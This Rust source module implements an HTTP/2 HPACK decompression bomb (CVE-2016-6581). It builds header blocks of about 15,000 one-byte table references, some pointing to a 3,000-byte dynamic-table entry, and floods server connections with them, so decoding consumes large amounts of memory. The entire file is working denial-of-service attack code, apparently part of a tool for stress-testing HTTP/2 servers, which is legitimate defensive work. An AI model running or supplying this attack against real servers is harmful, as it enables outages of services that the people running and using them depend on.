//! HTTP/2 header blocks that are small on the wire and large when they are decoded (HPACK bombs, CVE-2016-6581).

use super::super::attacker::Attacker;
use super::super::ends::Ends;
use super::super::frames::{END_HEADERS, END_STREAM, HEADERS, frame, request, text};
use super::super::http2::{Connection, id};

/// How many references one block holds: each takes one byte on the wire.
const REFERENCES: usize = 15_000;

/// A field of the static table that takes one byte on the wire: `accept-encoding: gzip, deflate`.
const STATIC: u8 = 0x80 | 16;

/// The first field of the dynamic table.
const DYNAMIC: u8 = 0x80 | 62;

/// On every other connection the references are to a long field that was to be remembered before, else to one of the
/// table that everybody has.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    let mut ends = attacker.with_each(|attacker, stream| bomb(attacker, stream, STATIC, Vec::new())).await;
    // A literal that is to be remembered.
    let remembered = [&[0x40], &text("x")[..], &text(&"y".repeat(3_000))].concat();
    ends.merge(attacker.with_each(move |attacker, stream| bomb(attacker, stream, DYNAMIC, remembered.clone())).await);
    ends
}

async fn bomb(attacker: Attacker, stream: tokio::net::TcpStream, reference: u8, begin: Vec<u8>) -> Ends {
    let connection = Connection::begin(attacker, stream, &[]).await;
    let block = [request("GET", "/system/health"), begin, vec![reference; REFERENCES]];
    let block = block.concat().into_iter().take(16 * 1024).collect::<Vec<u8>>();
    connection.flood(|index| frame(HEADERS, END_STREAM | END_HEADERS, id(index), &block)).await
}
